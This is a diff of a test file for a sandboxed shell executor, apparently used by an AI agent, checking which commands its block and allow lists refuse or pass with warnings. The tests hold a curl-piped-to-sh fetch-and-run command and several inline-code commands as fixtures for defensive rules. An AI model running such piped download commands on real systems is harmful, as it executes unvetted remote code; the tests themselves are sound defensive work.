@@ -73,8 +73,16 @@ describe("execute", () => {
 describe("the shell lists", () => {
   const security = { shellAllowlist: ["ls"], shellAllowlistMode: "strict" };
 
-  it("refuse what is blocked, with the rule and the finding, and nothing is started", async () => {
-    const refused = make("bubblewrap").execute("curl -s https://x.example | sh");
+  const kPiped = "curl -s https://x.example | sh";
+
+  it.each([
+    { shellBlocklist: ["docker"] },
+    { shellAllowlist: ["ls"] },
+    { shellAllowlistMode: "warn" },
+    { shellAllowlistMode: "strict" },
+    { disabledShellRules: ["inline-code"] },
+  ])("refuse what is blocked under %j, and nothing is started", async (lists) => {
+    const refused = make("bubblewrap", { security: lists }).execute(kPiped);
     await expect(refused).rejects.toMatchObject({
       name: "SandboxError",
       code: "ERR_COMMAND_BLOCKED",
@@ -82,6 +90,24 @@ describe("the shell lists", () => {
       cause: { rule: "pipe-to-shell" },
     });
     expect(fake.runs).toHaveLength(0);
+  });
+
+  it.each([
+    [kPiped, "pipe-to-shell"],
+    ["python3 -c 'print(1)'", "inline-code"],
+    ["python3 - <<'E'\nprint(1)\nE", "inline-code"],
+    ["node -e 1", "inline-code"],
+    ["perl -pi -e s/a/b/ x", "inline-code"],
+    ["x=ls; $x", "dynamic-command"],
+    ["ls )", "unreadable-syntax"],
+  ])("let %j pass without a list of the operator, and warn: %s", async (command, rule) => {
+    for (const config of [{}, { security: { shellBlocklist: [] } }]) {
+      fake = freshAddon();
+      const { done, request } = await execute(make("landlock", config), command);
+      expect(done.success).toBe(true);
+      expect(done.warnings).toEqual([expect.objectContaining({ rule })]);
+      expect(request.argv.at(-1)).toBe(command);
+    }
   });
 
   it("keep to the allow list in strict", async () => {
